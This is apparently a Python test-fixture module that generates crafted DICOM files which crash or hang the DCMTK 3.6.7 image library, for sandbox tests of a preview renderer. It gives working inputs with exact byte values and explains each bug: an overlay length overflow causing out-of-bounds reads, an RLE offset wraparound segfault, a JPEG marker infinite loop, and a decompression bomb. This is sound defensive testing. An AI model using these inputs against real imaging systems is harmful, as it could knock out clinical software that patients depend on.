"""Crafted DICOM files that crash or hang the pixel-data code of DCMTK 3.6.7 (Debian
12: 3.6.7-9~deb12u4, every Debian CVE patch applied), for the preview sandbox tests.

Every file is a small, well-formed Part 10 object: it parses cleanly, so `pacsport
import` accepts it (the tag parser is not the problem), and it passes the renderer's
own checks (a known transfer syntax, a declared size far below the limit). The fault
is in DCMTK code that rendering reaches through DicomImage and getOutputData; each
was reproduced three times in-process (release build):

  overlay_embedded_length_wrap       SIGSEGV in libdcmimgle
                                     (DiMonoOutputPixelTemplate::overlay)
  rle_segment_offset_past_fragment   SIGSEGV in libdcmdata (DcmRLEDecoder::decompress)
  jpeg_tem_marker_infinite_loop,     endless loop at 100 % CPU in libdcmjpeg
  jpeg_lossless_tem_marker_infinite_loop   (DJCodecDecoder::scanJpegDataForBitDepth)

And one legal file that asks for much memory: rle_bomb, 1 MB of RLE runs that decode
to a 64 MiB frame (about 140 MB of peak RSS to render it).
"""

import pathlib
import struct

import pydicom

from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.uid import (ExplicitVRLittleEndian, JPEGBaseline8Bit, JPEGLosslessSV1,
                         RLELossless)

SECONDARY_CAPTURE = "1.2.840.10008.5.1.4.1.1.7"
PATIENT_ID = "CRAFTED"
# The inputs that crash the decoder; the others make it loop forever.
CRASHES = ["overlay_embedded_length_wrap", "rle_segment_offset_past_fragment"]


def image(uid_suffix, transfer_syntax, rows, columns, bits_allocated, bits_stored,
          frames=None):
    """A minimal monochrome Secondary Capture image without pixel data."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = SECONDARY_CAPTURE
    meta.MediaStorageSOPInstanceUID = "1.2.826.0.1.3680043.10.1126.1." + uid_suffix
    meta.TransferSyntaxUID = transfer_syntax
    ds = Dataset()
    ds.file_meta = meta
    ds.is_little_endian = True
    ds.is_implicit_VR = False
    ds.SOPClassUID = meta.MediaStorageSOPClassUID
    ds.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    ds.StudyInstanceUID = "1.2.826.0.1.3680043.10.1126.2." + uid_suffix
    ds.SeriesInstanceUID = "1.2.826.0.1.3680043.10.1126.3." + uid_suffix
    ds.PatientID = PATIENT_ID
    ds.PatientName = "Crafted^Input"
    ds.Modality = "OT"
    ds.Rows = rows
    ds.Columns = columns
    ds.SamplesPerPixel = 1
    ds.PhotometricInterpretation = "MONOCHROME2"
    ds.BitsAllocated = bits_allocated
    ds.BitsStored = bits_stored
    ds.HighBit = bits_stored - 1
    ds.PixelRepresentation = 0
    if frames is not None:
        ds.NumberOfFrames = frames
    return ds


def encapsulated(ds, fragments):
    ds.PixelData = encapsulate(fragments, has_bot=False)
    ds["PixelData"].VR = "OB"
    ds["PixelData"].is_undefined_length = True


def overlay_embedded_length_wrap():
    """Embedded overlay (group 6000, no Overlay Data) whose size check overflows.

    DiOverlayPlane checks the pixel data is long enough for the plane:
      expected = (NumberOfFramesInOverlay * OverlayRows * OverlayColumns
                  * OverlayBitsAllocated + 7) / 8
    in 64-bit unsigned arithmetic. With Overlay Bits Allocated 16 (an overlay
    embedded in the unused high bits of 16-bit pixels, retired but supported) and
    rows 65362, columns 60104, frames 293474946 the product is 2^64 + 512, so the
    "expected" length is 64 bytes and the 8 KiB of pixel data pass. Drawing the plane
    (on by default) then steps through it with its own Overlay Columns as the row
    pitch; Overlay Origin -32767 (Top = -32768) makes the first row read start
    32768 * 60104 words = 3.9 GB past the pixel data: SIGSEGV at the first read.
    (Without the negative origin, rows 1.. still read 120 KB apart; that crashed too
    in every run, but the first read then is in bounds.)
    The overlay bit (15) is outside Bits Stored (12), as DCMTK requires.
    """
    rows = columns = 64
    ds = image("1", ExplicitVRLittleEndian, rows, columns, 16, 12)
    ds.add_new(0x60000010, "US", 65362)            # Overlay Rows
    ds.add_new(0x60000011, "US", 60104)            # Overlay Columns
    ds.add_new(0x60000015, "IS", "293474946")      # Number of Frames in Overlay
    ds.add_new(0x60000040, "CS", "G")              # Overlay Type
    ds.add_new(0x60000050, "SS", [-32767, 1])      # Overlay Origin (row, column)
    ds.add_new(0x60000100, "US", 16)               # Overlay Bits Allocated
    ds.add_new(0x60000102, "US", 15)               # Overlay Bit Position
    ds.PixelData = b"\x00\x08" * (rows * columns)  # 12-bit grey, overlay bit clear
    ds["PixelData"].VR = "OW"
    return ds


def rle_segment_offset_past_fragment():
    """RLE Lossless frame whose only segment starts 3.75 GB past its fragment.

    DcmRLECodecDecoder::decodeFrame takes the segment offsets of the 64-byte RLE
    header on trust: for the last (here the only) segment it feeds the decoder
    rleData + offset with length fragmentLength - offset, a Uint32 that wraps
    around to about 268 MB. The first byte read is 0xF0000000 bytes past the
    fragment: SIGSEGV. Any offset beyond the fragment goes wrong (the pacsport mutation
    run crashed with offsets from 45632 up); 0xF0000000 is far outside any heap.
    """
    rows = columns = 64
    ds = image("2", RLELossless, rows, columns, 8, 8)
    header = struct.pack("<16I", 1, 0xF0000000, *([0] * 14))
    segment = b"\x81\x00" * (rows * columns // 128)  # what a real segment would hold
    encapsulated(ds, [header + segment])
    return ds


def jpeg_tem_marker(transfer_syntax, uid_suffix, stream_start):
    """JPEG frame with a TEM marker (FF 01) before any SOF marker.

    Before decoding, DCMTK scans the first fragment for the SOF marker to learn the
    sample precision (DJCodecDecoder::scanJpegDataForBitDepth). Its case for TEM
    (0xFF01, a marker without a length) does not advance the offset, so the scan
    spins on the same two bytes forever. Reached for every JPEG transfer syntax of
    dcmjpeg (baseline, extended, lossless), before a single pixel is decoded.
    """
    rows = columns = 64
    ds = image(uid_suffix, transfer_syntax, rows, columns, 8, 8)
    encapsulated(ds, [stream_start + b"\xff\x01" + b"\x00" * 58])
    return ds


INPUTS = {
    "overlay_embedded_length_wrap": overlay_embedded_length_wrap,
    "rle_segment_offset_past_fragment": rle_segment_offset_past_fragment,
    "jpeg_tem_marker_infinite_loop":
        lambda: jpeg_tem_marker(JPEGBaseline8Bit, "3", b"\xff\xd8"),
    "jpeg_lossless_tem_marker_infinite_loop":
        lambda: jpeg_tem_marker(JPEGLosslessSV1, "4", b"\xff\xd8"),
}


def rle_bomb(side=8192):
    """A legal RLE Lossless image of side x side zero bytes, in runs of 128."""
    ds = image("5", RLELossless, side, side, 8, 8)
    header = struct.pack("<16I", 1, 64, *([0] * 14))
    encapsulated(ds, [header + b"\x81\x00" * (side * side // 128)])
    return ds


def write_all(directory):
    """Writes every input to DIRECTORY/<name>.dcm; returns {name: Path}."""
    directory = pathlib.Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, make in INPUTS.items():
        paths[name] = directory / (name + ".dcm")
        make().save_as(str(paths[name]), write_like_original=False)
    return paths


def sop_instance_uid(path):
    return str(pydicom.dcmread(str(path), stop_before_pixels=True).SOPInstanceUID)


def study_instance_uid(path):
    return str(pydicom.dcmread(str(path), stop_before_pixels=True).StudyInstanceUID)
